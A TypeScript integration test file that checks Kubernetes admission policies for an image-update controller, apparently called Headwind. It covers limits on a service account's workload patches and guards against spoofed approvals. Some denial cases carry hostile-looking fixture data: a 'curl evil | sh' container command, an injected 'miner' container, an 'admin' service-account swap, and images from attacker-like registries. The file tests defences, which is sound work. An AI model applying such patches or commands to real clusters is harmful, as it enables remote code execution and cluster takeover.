// Admission enforces what RBAC cannot, proven on the real apiserver with the real tokens: the hooks
// ServiceAccount may move a container image within its repository on an opted-in workload and
// nothing else (manifests/admission/hooks-workload-changes.yaml); people may only approve or reject
// a Pending request in their own name (approvals.yaml), and no writer at all may move a phase the
// CRD's transition rules forbid.
import { execFile } from "node:child_process";
import { promisify } from "node:util";
import type { KubeConfig } from "@kubernetes/client-node";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import type { Phase } from "../../src/core/updaterequests/update-request.ts";
import { approveCommand } from "../../src/hooks-server/notify/format-notification.ts";
import { installAdmission } from "../helpers/admission.ts";
import {
  adminConfig,
  applyObjects,
  createTestNamespace,
  kubeRequest,
  statusCode,
} from "../helpers/cluster.ts";
import { emptyNamespace } from "../helpers/flows.ts";
import { hooksServiceAccount, installHeadwind } from "../helpers/headwind-install.ts";
import { workload } from "../helpers/headwind-objects.ts";
import { type OwnedRequest, ownedUpdateRequest } from "../helpers/owned-update-request.ts";

const run = promisify(execFile);
const admin = "headwind-admin";
let kc: KubeConfig;
let asHooks: KubeConfig;
let ns: string;

beforeAll(async () => {
  kc = adminConfig();
  await installHeadwind(kc);
  asHooks = await hooksServiceAccount(kc);
  await installAdmission(kc, asHooks);
  ns = await createTestNamespace(kc, "hw-admission");
});

// Opted-in workloads left behind would be the next test files' (the sidecar's, Metacontroller's).
afterAll(async () => {
  if (ns) await emptyNamespace(kc, ns);
});

/** The HTTP status of a write (200 when it passed) and the apiserver's message. */
async function attempt(p: Promise<unknown>): Promise<{ status: number; message: string }> {
  try {
    await p;
    return { status: 200, message: "" };
  } catch (error) {
    return {
      status: statusCode(error) ?? 0,
      message: error instanceof Error ? error.message : String(error),
    };
  }
}

const paths: Record<string, string> = {
  Deployment: "apps/v1/namespaces/NS/deployments",
  StatefulSet: "apps/v1/namespaces/NS/statefulsets",
  DaemonSet: "apps/v1/namespaces/NS/daemonsets",
  CronJob: "batch/v1/namespaces/NS/cronjobs",
};
const pathOf = (kind: string, name: string) => `/apis/${paths[kind]?.replace("NS", ns)}/${name}`;

function jsonPatch(as: KubeConfig, kind: string, name: string, ops: unknown[]) {
  return kubeRequest(
    as,
    "PATCH",
    `${pathOf(kind, name)}?fieldManager=headwind`,
    ops,
    "application/json-patch+json",
  );
}

function mergePatch(as: KubeConfig, kind: string, name: string, body: unknown) {
  return kubeRequest(as, "PATCH", pathOf(kind, name), body, "application/merge-patch+json");
}

const podSpecPath = (kind: string) =>
  kind === "CronJob" ? "/spec/jobTemplate/spec/template/spec" : "/spec/template/spec";

async function deploy(
  name: string,
  annotations: Record<string, string>,
  kind: "Deployment" | "StatefulSet" | "DaemonSet" | "CronJob" = "Deployment",
) {
  await applyObjects(
    kc,
    [
      workload(name, "registry.test:5000/shop/app:1.0.0", {
        kind,
        annotations,
        initImage: "registry.test:5000/shop/init:1.0.0",
      }),
    ],
    { namespace: ns },
  );
}

describe("the hooks ServiceAccount on workloads (real token, ValidatingAdmissionPolicy)", () => {
  const optedIn = { "headwind.sh/policy": "minor" };

  it.each(["Deployment", "StatefulSet", "DaemonSet", "CronJob"] as const)(
    "%s: moves container and init container images within their repositories (the guarded patch)",
    async (kind) => {
      const name = `images-${kind.toLowerCase()}`;
      await deploy(name, optedIn, kind);
      const base = podSpecPath(kind);
      const ok = await attempt(
        jsonPatch(asHooks, kind, name, [
          { op: "test", path: `${base}/containers/0/image`, value: "registry.test:5000/shop/app:1.0.0" },
          { op: "replace", path: `${base}/containers/0/image`, value: "registry.test:5000/shop/app:1.1.0" },
          {
            op: "replace",
            path: `${base}/initContainers/0/image`,
            value: `registry.test:5000/shop/init:1.0.1@sha256:${"a".repeat(64)}`,
          },
        ]),
      );
      expect(ok).toEqual({ status: 200, message: "" });
    },
  );

  it("writes Headwind's own annotations", async () => {
    await deploy("own-annotations", optedIn);
    const ops = [
      { op: "add", path: "/metadata/annotations/headwind.sh~1last-update", value: "2026-11-25T12:00:00Z" },
    ];
    expect((await attempt(jsonPatch(asHooks, "Deployment", "own-annotations", ops))).status).toBe(200);
  });

  // columns: what | annotations of the workload | JSON patch | message
  it.each<[string, Record<string, string>, (base: string) => unknown[], string]>([
    [
      "replicas",
      optedIn,
      () => [{ op: "replace", path: "/spec/replicas", value: 5 }],
      "outside its pod template",
    ],
    [
      "a command",
      optedIn,
      (b) => [{ op: "add", path: `${b}/containers/0/command`, value: ["sh", "-c", "curl evil | sh"] }],
      "nothing in a container but its image",
    ],
    [
      "an env var",
      optedIn,
      (b) => [{ op: "add", path: `${b}/containers/0/env`, value: [{ name: "X", value: "1" }] }],
      "nothing in a container but its image",
    ],
    [
      "a second container",
      optedIn,
      (b) => [
        {
          op: "add",
          path: `${b}/containers/-`,
          value: { name: "miner", image: "registry.test:5000/shop/app:1.0.0" },
        },
      ],
      "nothing in a container but its image",
    ],
    [
      "the pod's service account",
      optedIn,
      (b) => [{ op: "add", path: `${b}/serviceAccountName`, value: "admin" }],
      "nothing in a pod template but container images",
    ],
    [
      "the pod template's labels",
      optedIn,
      () => [{ op: "add", path: "/spec/template/metadata/labels/extra", value: "x" }],
      "nothing in a pod template but container images",
    ],
    [
      "an image in another repository",
      optedIn,
      (b) => [
        { op: "replace", path: `${b}/containers/0/image`, value: "registry.test:5000/evil/miner:1.0.0" },
      ],
      "only to another tag or digest of the same repository",
    ],
    [
      "an image on another registry",
      optedIn,
      (b) => [{ op: "replace", path: `${b}/containers/0/image`, value: "evil.test/shop/app:1.0.0" }],
      "only to another tag or digest of the same repository",
    ],
    [
      "the workload's policy",
      optedIn,
      () => [{ op: "replace", path: "/metadata/annotations/headwind.sh~1policy", value: "major" }],
      "no metadata but Headwind's own annotations",
    ],
    [
      "a label",
      optedIn,
      () => [{ op: "add", path: "/metadata/labels", value: { stolen: "yes" } }],
      "no metadata but Headwind's own annotations",
    ],
    [
      "the image of an unannotated workload",
      {},
      (b) => [{ op: "replace", path: `${b}/containers/0/image`, value: "registry.test:5000/shop/app:1.1.0" }],
      "only change workloads annotated with a headwind.sh/policy other than none",
    ],
    [
      "the image of a workload that opted out",
      { "headwind.sh/policy": "None " },
      (b) => [{ op: "replace", path: `${b}/containers/0/image`, value: "registry.test:5000/shop/app:1.1.0" }],
      "only change workloads annotated with a headwind.sh/policy other than none",
    ],
  ])("denies changing %s", async (what, annotations, ops, message) => {
    const name = `deny-${what.replace(/[^a-z]+/g, "-").replace(/-+$/, "")}`;
    await deploy(name, annotations);
    const denied = await attempt(jsonPatch(asHooks, "Deployment", name, ops(podSpecPath("Deployment"))));
    expect(denied.status).toBe(403);
    expect(denied.message).toContain(message);
    // The same change by anyone else is none of this policy's business.
    expect((await attempt(jsonPatch(kc, "Deployment", name, ops(podSpecPath("Deployment"))))).status).toBe(
      200,
    );
  });

  it("denies a CronJob's schedule and suspend", async () => {
    await deploy("cron-schedule", optedIn, "CronJob");
    for (const ops of [
      [{ op: "replace", path: "/spec/schedule", value: "* * * * *" }],
      [{ op: "add", path: "/spec/suspend", value: true }],
      [{ op: "add", path: "/spec/jobTemplate/spec/backoffLimit", value: 99 }],
    ]) {
      const denied = await attempt(jsonPatch(asHooks, "CronJob", "cron-schedule", ops));
      expect(denied.status).toBe(403);
    }
  });

  it("denies a merge patch smuggling a replica change next to a legitimate image change", async () => {
    await deploy("smuggle", optedIn);
    const body = {
      spec: {
        replicas: 0,
        template: { spec: { containers: [{ name: "app", image: "registry.test:5000/shop/app:1.1.0" }] } },
      },
    };
    expect((await attempt(mergePatch(asHooks, "Deployment", "smuggle", body))).status).toBe(403);
  });
});

describe("approvals on every path (real kubectl, ValidatingAdmissionPolicy and CRD transition rules)", () => {
  const urPath = (name: string) => `/apis/headwind.sh/v1alpha1/namespaces/${ns}/updaterequests/${name}`;

  /** An UpdateRequest whose status Headwind (the hooks ServiceAccount) has set to `status`. */
  async function request(name: string, status: { phase: Phase } & Record<string, unknown>): Promise<void> {
    const [target] = (await applyObjects(kc, [workload("web", "registry.test:5000/shop/app:1.0.0")], {
      namespace: ns,
    })) as OwnedRequest["target"][];
    if (!target) throw new Error("no workload");
    await ownedUpdateRequest(kc, asHooks, {
      target,
      name,
      currentImage: "registry.test:5000/shop/app:1.0.0",
      newImage: "registry.test:5000/shop/app:1.1.0",
      phase: status.phase,
      status,
    });
  }

  /** Exactly what a person types; resolves with kubectl's error output ("" when it passed). */
  async function kubectlPatch(name: string, status: Record<string, unknown>): Promise<string> {
    try {
      await run("/usr/bin/kubectl", [
        "-n",
        ns,
        "patch",
        "updaterequest",
        name,
        "--subresource=status",
        "--type=merge",
        "-p",
        JSON.stringify({ status }),
      ]);
      return "";
    } catch (error) {
      return (error as { stderr?: string }).stderr ?? String(error);
    }
  }

  const phaseOf = async (name: string) =>
    ((await kubeRequest(kc, "GET", urPath(name))) as { status?: { phase?: string } }).status?.phase;

  it("a person approves a Pending request in their own name", async () => {
    await request("pending-ok", { phase: "Pending" });
    expect(await kubectlPatch("pending-ok", { phase: "Approved", approvedBy: admin })).toBe("");
    expect(await phaseOf("pending-ok")).toBe("Approved");
  });

  it("the approve command every notification carries works as pasted into a shell", async () => {
    await request("pasted", { phase: "Pending" });
    const command = approveCommand({
      event: "update_request_created",
      target: { apiVersion: "apps/v1", kind: "Deployment", name: "web", namespace: ns },
      container: "app",
      currentImage: "registry.test:5000/shop/app:1.0.0",
      newImage: "registry.test:5000/shop/app:1.1.0",
      policy: "minor",
      updateRequestName: "pasted",
      requiresApproval: true,
    });
    await run("bash", ["-c", command]);
    const approved = (await kubeRequest(kc, "GET", urPath("pasted"))) as { status?: Record<string, unknown> };
    expect(approved.status).toEqual({ phase: "Approved", approvedBy: admin });
  });

  it("a person rejects in their own name, with a reason", async () => {
    await request("reject-ok", { phase: "Pending" });
    expect(await kubectlPatch("reject-ok", { phase: "Rejected", rejectedBy: admin, reason: "not now" })).toBe(
      "",
    );
  });

  it.each<Phase>(["Expired", "Rejected", "RolledBack", "Completed", "Failed", "Superseded", "Progressing"])(
    "approving a %s request is denied",
    async (phase) => {
      const name = `approve-${phase.toLowerCase()}`;
      await request(name, { phase, ...(phase === "Rejected" ? { rejectedBy: "bob" } : {}) });
      expect(await kubectlPatch(name, { phase: "Approved", approvedBy: admin })).toContain(
        `phase cannot change from ${phase} to Approved`,
      );
      expect(await phaseOf(name)).toBe(phase);
    },
  );

  it("approvedBy naming someone else is denied, and so is an approval naming no one", async () => {
    await request("spoof", { phase: "Pending" });
    const spoofed = await kubectlPatch("spoof", { phase: "Approved", approvedBy: "the-cto" });
    expect(spoofed).toContain(`approvedBy must be your own user name: ${admin}`);
    expect(await kubectlPatch("spoof", { phase: "Approved" })).toContain(`set approvedBy to ${admin}`);
    expect(await kubectlPatch("spoof", { phase: "Rejected", rejectedBy: "the-cto" })).toContain(
      `rejectedBy must be your own user name: ${admin}`,
    );
    expect(await phaseOf("spoof")).toBe("Pending");
  });

  it("people touch nothing else: no other phase, no Headwind field, no removing the status", async () => {
    await request("meddle", { phase: "Pending", message: "waiting" });
    // The CRD's rule answers first (Pending never goes to Applying); a legal phase is still the hook's.
    expect(await kubectlPatch("meddle", { phase: "Applying" })).toContain(
      "cannot change from Pending to Applying",
    );
    expect(await kubectlPatch("meddle", { phase: "Expired" })).toContain(
      "people may only approve or reject a Pending UpdateRequest; this one is Pending and cannot become Expired",
    );
    expect(await kubectlPatch("meddle", { message: "approved by the board" })).toContain(
      "people may set only phase, approvedBy, rejectedBy and reason",
    );
    expect(await kubectlPatch("meddle", { approvedAt: "2026-01-01T00:00:00Z" })).toContain(
      "people may set only",
    );
    const removed = await attempt(
      kubeRequest(
        kc,
        "PATCH",
        `${urPath("meddle")}/status`,
        { status: null },
        "application/merge-patch+json",
      ),
    );
    expect(removed.status).toBeGreaterThanOrEqual(400);
    expect(await phaseOf("meddle")).toBe("Pending");
  });

  it("Headwind itself cannot move a phase the transition rules forbid, nor rewrite who decided", async () => {
    const hooksPatch = (name: string, status: Record<string, unknown>) =>
      attempt(
        kubeRequest(asHooks, "PATCH", `${urPath(name)}/status`, { status }, "application/merge-patch+json"),
      );
    await request("terminal", { phase: "Rejected", rejectedBy: "bob" });
    const back = await hooksPatch("terminal", { phase: "Approved", approvedBy: "x" });
    expect(back.status).toBe(422);
    expect(back.message).toContain("phase cannot change from Rejected to Approved");
    expect((await hooksPatch("terminal", { rejectedBy: "mallory" })).message).toContain(
      "rejectedBy cannot change once set",
    );
    await request("claims", { phase: "Completed", notified: ["Completed/update_completed"] });
    expect((await hooksPatch("claims", { notified: [] })).message).toContain("cannot be unclaimed");
    await request("skip", { phase: "Pending" });
    expect((await hooksPatch("skip", { phase: "Progressing" })).message).toContain(
      "phase cannot change from Pending to Progressing",
    );
  });

  it("a proposal cannot be edited after it is made (only supersededBy may be added)", async () => {
    await request("proposal", { phase: "Pending" });
    const edit = (spec: Record<string, unknown>) =>
      attempt(kubeRequest(kc, "PATCH", urPath("proposal"), { spec }, "application/merge-patch+json"));
    expect((await edit({ newImage: "registry.test:5000/shop/app:6.6.6" })).status).toBe(422);
    expect((await edit({ targetRef: { name: "other" } })).status).toBe(422);
    expect((await edit({ supersededBy: "proposal-2" })).status).toBe(200);
  });
});
